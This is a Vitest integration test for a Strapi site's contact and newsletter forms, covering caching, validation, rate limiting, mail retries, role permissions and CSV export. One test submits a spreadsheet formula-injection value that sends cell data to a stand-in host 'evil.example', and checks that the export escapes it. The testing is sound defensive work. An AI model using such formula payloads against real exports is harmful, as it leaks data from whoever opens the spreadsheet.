import { createRequire } from "node:module";

import getPort from "../support/free-port.ts";
import { beforeAll, describe, expect, it } from "vitest";

import { adminCall, adminWithRole, superAdminToken, type Json } from "../support/admin-users.ts";
import { startFakeSmtp, mailHeader, mailText, type FakeSmtp } from "../support/smtp-server.ts";
import { TEST_ACCOUNT_API_SECRET } from "../support/site-secret.ts";
import { strapiSite } from "../support/strapi-site.ts";
import { until } from "../support/wait.ts";

/**
 * Content forms (docs/forms.md) through the real Strapi and the built site: the seeded /contact
 * page's contact form and newsletter sign-up. A CMS of its own: its mail provider is an SMTP
 * server this file stops and starts (the mail provider down, then back), which the shared CMS's
 * mail-to-files cannot be. The retry runs every 300 ms, first after 1 s (CMS_FORM_MAIL_RETRY_*).
 */
let smtpPort = 0;
let smtp: FakeSmtp | undefined;
beforeAll(async () => {
  smtpPort = await getPort();
  smtp = await startFakeSmtp(smtpPort);
});

const site = strapiSite("forms", {
  cmsEnv: () => ({
    SMTP_HOST: "127.0.0.1",
    SMTP_PORT: String(smtpPort),
    CMS_FORM_MAIL_RETRY_MS: "300",
    CMS_FORM_MAIL_RETRY_BASE_SECONDS: "1",
  }),
  // Each test posts from its own client address (X-Forwarded-For): budgets of their own.
  appEnv: { AUTH_RATE_LIMIT_MAX: "5", TRUST_PROXY: "loopback" },
});

const SUBMISSIONS = "/content-manager/collection-types/plugin::forms.submission";

// The CMS's own SQLite driver: a database made before the forms plugin is made by taking out the
// Editor's grants on submissions and the plugin's marker.
const Database = createRequire(import.meta.url)("../../cms/node_modules/better-sqlite3") as new (file: string) => {
  prepare(sql: string): { run(...args: unknown[]): unknown };
  close(): void;
};

function asBeforeTheFormsPlugin(dbFile: string) {
  const db = new Database(dbFile);
  try {
    db.prepare(
      `DELETE FROM admin_permissions WHERE subject = 'plugin::forms.submission' AND id IN (
         SELECT l.permission_id FROM admin_permissions_role_lnk l JOIN admin_roles r ON r.id = l.role_id
         WHERE r.code = 'strapi-editor')`,
    ).run();
    db.prepare("DELETE FROM strapi_core_store_settings WHERE key = 'plugin_forms_editor-granted'").run();
  } finally {
    db.close();
  }
}
let superToken = "";
let clients = 0;
/** A client address no other post of this file uses. */
const newClient = () => `198.51.100.${++clients}`;

interface PageForm {
  section: string;
  token: string;
}

/** The page's forms in order (contact, newsletter): their section ids and bot-check tokens. */
async function formsOf(pagePath: string): Promise<PageForm[]> {
  const html = await (await fetch(`${site.app.url}${pagePath}`)).text();
  return [
    ...html.matchAll(/name="formSection" value="(\d+)"\/><input type="hidden" name="formToken" value="([^"]+)"/g),
  ].map(([, section, token]) => ({ section: section!, token: token! }));
}

async function post(
  pagePath: string,
  form: PageForm,
  fields: Record<string, string>,
  headers: Record<string, string> = {},
) {
  const all = {
    "content-type": "application/x-www-form-urlencoded",
    origin: site.app.url,
    "x-forwarded-for": newClient(),
    ...headers,
  };
  return fetch(`${site.app.url}${pagePath}`, {
    method: "POST",
    // An empty value leaves the header out.
    headers: Object.fromEntries(Object.entries(all).filter(([, value]) => value !== "")),
    body: new URLSearchParams({ formSection: form.section, formToken: form.token, remarks: "", ...fields }),
    redirect: "manual",
  });
}

const contactFields = (email: string) => ({
  field_name: "Ada Visitor",
  field_email: email,
  field_topic: "Jobs",
  field_message: "Is the backend role still open?",
  consent: "yes",
});

/** The stored submissions whose fields hold `email`, as the Content Manager lists them to an admin. */
async function submissionsOf(email: string): Promise<Json[]> {
  const { body } = await adminCall(site.cms.url, "GET", `${SUBMISSIONS}?pageSize=100&sort=createdAt:desc`, {
    token: superToken,
  });
  return (body.results as Json[]).filter((row) => JSON.stringify(row.fields).includes(email));
}

describe("a content form through the real Strapi", () => {
  beforeAll(async () => {
    superToken = await superAdminToken(site.cms.url);
  });

  it("keeps the page holding the form a cache HIT and never stores the answer to a post", async () => {
    await fetch(`${site.app.url}/contact`);
    const again = await fetch(`${site.app.url}/contact`);
    expect(again.headers.get("x-cache")).toBe("HIT");
    const html = await again.text();
    expect(html).toMatch(/<form [^>]*action="\/contact" method="post">/);
    expect(html).toContain("Send us a message");

    const [contact] = await formsOf("/contact");
    const answer = await post("/contact", contact!, contactFields("hit@example.com"));
    expect(answer.status).toBe(200);
    expect(answer.headers.get("cache-control")).toBe("private, no-store");
    expect(answer.headers.get("x-cache")).toBeNull();
    expect(await answer.text()).toContain("Thank you for your message.");
    // The thank-you went to that visitor alone: the page's next visitor gets the form.
    const after = await fetch(`${site.app.url}/contact`);
    expect(after.headers.get("x-cache")).toBe("HIT");
    expect(await after.text()).not.toContain("Thank you for your message.");
  });

  it("stores a submission, then mails it to the form's address with the sender as Reply-To", async () => {
    const [contact] = await formsOf("/contact");
    const email = "stored@example.com";
    const answer = await post("/contact", contact!, contactFields(email));
    expect(answer.status).toBe(200);
    const [row] = await submissionsOf(email);
    expect(row).toMatchObject({ form: "contact", pagePath: "/contact", pageLocale: "en", mailTo: "hello@example.com" });
    expect(row!.fields).toContainEqual({ name: "message", label: "Message", value: "Is the backend role still open?" });
    const mail = await until(
      "the contact form's mail",
      () => smtp!.messages.find((m) => mailText(m).includes(email)),
      Boolean,
    );
    expect(mail!.to).toEqual(["hello@example.com"]);
    expect(mailHeader(mail!, "Reply-To")).toContain(email);
    await until(
      "the row marked sent",
      async () => (await submissionsOf(email))[0]?.mailStatus,
      (s) => s === "sent",
    );
  });

  it("answers wrong fields with messages next to them, keeps what was typed and stores nothing", async () => {
    const [contact] = await formsOf("/de/kontakt");
    const answer = await post("/de/kontakt", contact!, {
      field_name: "Bea",
      field_email: "not-an-address",
      field_topic: "Something else",
      field_message: "",
    });
    expect(answer.status).toBe(400);
    expect(answer.headers.get("cache-control")).toBe("private, no-store");
    const html = await answer.text();
    expect(html).toContain("Bitte korrigieren Sie die markierten Felder");
    expect(html).toMatch(/aria-invalid="true" aria-describedby="[^"]+-email-error"/);
    expect(html).toContain("Bitte geben Sie eine E-Mail-Adresse wie name@example.com ein.");
    expect(html).toContain("Bitte wählen Sie eine der Möglichkeiten.");
    // The editor's own message for the field, and the consent's.
    expect(html).toContain("Bitte schreiben Sie uns, was Sie fragen möchten.");
    expect(html).toContain("Bitte stimmen Sie zu, um das Formular zu senden.");
    expect(html).toContain('value="not-an-address"');
    expect(await submissionsOf("not-an-address")).toEqual([]);
  });

  it("refuses a post from another site, a filled honeypot and a forged token, storing nothing", async () => {
    const [contact] = await formsOf("/contact");
    // Another Origin: React Router's own check refuses it (400) before the action runs.
    const foreign = await post("/contact", contact!, contactFields("foreign@example.com"), {
      origin: "https://evil.example",
    });
    expect(foreign.status).toBe(400);
    // No Origin, but the browser says cross-site: the auth forms' origin check (403).
    const crossSite = await post("/contact", contact!, contactFields("cross-site@example.com"), {
      origin: "",
      "sec-fetch-site": "cross-site",
    });
    expect(crossSite.status).toBe(403);
    expect(crossSite.headers.get("cache-control")).toBe("private, no-store");
    expect(await crossSite.text()).toContain("This form can only be sent from this site.");
    const bot = await post("/contact", contact!, { ...contactFields("bot@example.com"), remarks: "buy now" });
    expect(bot.status).toBe(400);
    expect(await bot.text()).toContain('value="Ada Visitor"');
    // A token of the newsletter form does not send the contact form.
    const [, newsletter] = await formsOf("/contact");
    const forged = await post(
      "/contact",
      { section: contact!.section, token: newsletter!.token },
      contactFields("forged@example.com"),
    );
    expect(forged.status).toBe(400);
    // A page without a form takes no post at all (React Router's 405), whatever it carries.
    expect((await post("/company", contact!, contactFields("no-form@example.com"))).status).toBe(405);
    for (const email of [
      "foreign@example.com",
      "cross-site@example.com",
      "bot@example.com",
      "forged@example.com",
      "no-form@example.com",
    ]) {
      expect(await submissionsOf(email), email).toEqual([]);
    }
  });

  it("refuses posts past the rate limit with 429 and Retry-After, whatever the form", async () => {
    const [contact, newsletter] = await formsOf("/contact");
    const client = { "x-forwarded-for": "203.0.113.77" };
    const statuses: number[] = [];
    for (let i = 0; i < 6; i++) {
      const form = i % 2 === 0 ? contact! : newsletter!;
      const fields = i % 2 === 0 ? contactFields(`burst-${i}@example.com`) : { field_email: `burst-${i}@example.com` };
      const answer = await post("/contact", form, fields, client);
      statuses.push(answer.status);
      if (answer.status === 429) expect(Number(answer.headers.get("retry-after"))).toBeGreaterThan(0);
    }
    expect(statuses).toEqual([200, 200, 200, 200, 200, 429]);
    expect(await submissionsOf("burst-5@example.com")).toEqual([]);
  });

  it("loses nothing while the mail provider is down: stored at once, mailed once it is back", async () => {
    await smtp!.stop();
    const [, newsletter] = await formsOf("/contact");
    const email = "while-down@example.com";
    const answer = await post("/contact", newsletter!, { field_email: email, field_product_news: "yes" });
    expect(answer.status).toBe(200);
    expect(await answer.text()).toContain("You are signed up.");
    const failed = await until(
      "a failed mail attempt recorded",
      async () => (await submissionsOf(email))[0],
      (row) => (row?.mailAttempts ?? 0) >= 1,
    );
    expect(failed).toMatchObject({ mailStatus: "pending", mailTo: "newsletter@example.com" });
    expect(failed!.mailError).toMatch(/ECONNREFUSED|connect/i);

    smtp = await startFakeSmtp(smtpPort);
    // The next attempt is due at most 2^attempts seconds (retry base 1 s) after the last failure.
    const attempts = (await submissionsOf(email))[0]!.mailAttempts as number;
    const mail = await until(
      "the held mail sent once the provider is back",
      () => smtp!.messages.find((m) => mailText(m).includes(email)),
      Boolean,
      { timeoutMs: (2 ** attempts + 1) * 1000 + 15_000 },
    );
    expect(mail!.to).toEqual(["newsletter@example.com"]);
    const row = await until(
      "the row marked sent",
      async () => (await submissionsOf(email))[0],
      (r) => r?.mailStatus === "sent",
    );
    expect(row!.mailAttempts).toBeGreaterThan(1);
    expect(smtp!.messages.filter((m) => mailText(m).includes(email))).toHaveLength(1);
  }, 90_000);

  it("takes submissions from the site's server only, never straight from a visitor", async () => {
    const body = JSON.stringify({ page: "x", locale: "en", section: 1, values: {} });
    const headers = { "content-type": "application/json" };
    const anonymous = await fetch(`${site.cms.url}/api/form-submissions`, { method: "POST", headers, body });
    expect(anonymous.status).toBe(403);
    const wrong = await fetch(`${site.cms.url}/api/form-submissions`, {
      method: "POST",
      headers: { ...headers, "x-site-secret": "not-the-secret-0123456789" },
      body,
    });
    expect(wrong.status).toBe(403);
    const site_ = await fetch(`${site.cms.url}/api/form-submissions`, {
      method: "POST",
      headers: { ...headers, "x-site-secret": TEST_ACCOUNT_API_SECRET },
      body,
    });
    expect(site_.status).toBe(400);
    // No content-API route reads them, with or without the read-only token.
    const list = await fetch(`${site.cms.url}/api/submissions`, {
      headers: { authorization: `Bearer ${site.cms.token}` },
    });
    expect(list.status).toBe(404);
  });

  it("lets an Editor read and export submissions, and an Author neither; a typed formula is no formula in the export", async () => {
    const [contact] = await formsOf("/contact");
    const formula = '=HYPERLINK("https://evil.example/?"&A1,"open")';
    expect(
      (await post("/contact", contact!, { ...contactFields("formula@example.com"), field_name: formula })).status,
    ).toBe(200);
    const editor = await adminWithRole(site.cms.url, superToken, "strapi-editor", "FormEditor");
    const author = await adminWithRole(site.cms.url, superToken, "strapi-author", "FormAuthor");
    expect((await adminCall(site.cms.url, "GET", SUBMISSIONS, { token: editor })).status).toBe(200);
    expect((await adminCall(site.cms.url, "GET", SUBMISSIONS, { token: author })).status).toBe(403);

    const csv = await fetch(`${site.cms.url}/forms/submissions.csv?form=contact`, {
      headers: { authorization: `Bearer ${editor}` },
    });
    expect(csv.status).toBe(200);
    expect(csv.headers.get("content-type")).toContain("text/csv");
    const text = await csv.text();
    expect(text.split("\r\n")[0]).toBe(
      "submittedAt,form,pagePath,pageLocale,mailStatus,name,email,topic,message,consent",
    );
    expect(text).toContain("formula@example.com");
    expect(text).not.toContain("while-down@example.com");
    // OWASP's CSV injection advice: the cell starts with a quote, so a spreadsheet shows it as text.
    expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""open"")"`);
    const refused = await fetch(`${site.cms.url}/forms/submissions.csv`, {
      headers: { authorization: `Bearer ${author}` },
    });
    expect(refused.status).toBe(403);
  });

  it("gives an older database's Editors read and delete on submissions once, at the next start", async () => {
    const login = async () =>
      (
        await adminCall(site.cms.url, "POST", "/admin/login", {
          body: { email: "formeditor@example.com", password: "FormEditorPass12345" },
        })
      ).body.data.token as string;
    asBeforeTheFormsPlugin(site.cms.dbFile);
    await site.restartCms();
    superToken = await superAdminToken(site.cms.url);
    const editor = await login();
    expect((await adminCall(site.cms.url, "GET", SUBMISSIONS, { token: editor })).status).toBe(200);
    const csv = await fetch(`${site.cms.url}/forms/submissions.csv`, {
      headers: { authorization: `Bearer ${editor}` },
    });
    expect(csv.status).toBe(200);
    // Delete, not update: the Editor may erase a submission, never change one.
    const [row] = await submissionsOf("formula@example.com");
    const update = await adminCall(site.cms.url, "PUT", `${SUBMISSIONS}/${row!.documentId}`, {
      token: editor,
      body: { form: "changed" },
    });
    expect(update.status).toBe(403);
    const erase = await adminCall(site.cms.url, "DELETE", `${SUBMISSIONS}/${row!.documentId}`, { token: editor });
    expect(erase.status).toBe(200);
    expect(await submissionsOf("formula@example.com")).toEqual([]);
  }, 120_000);
});
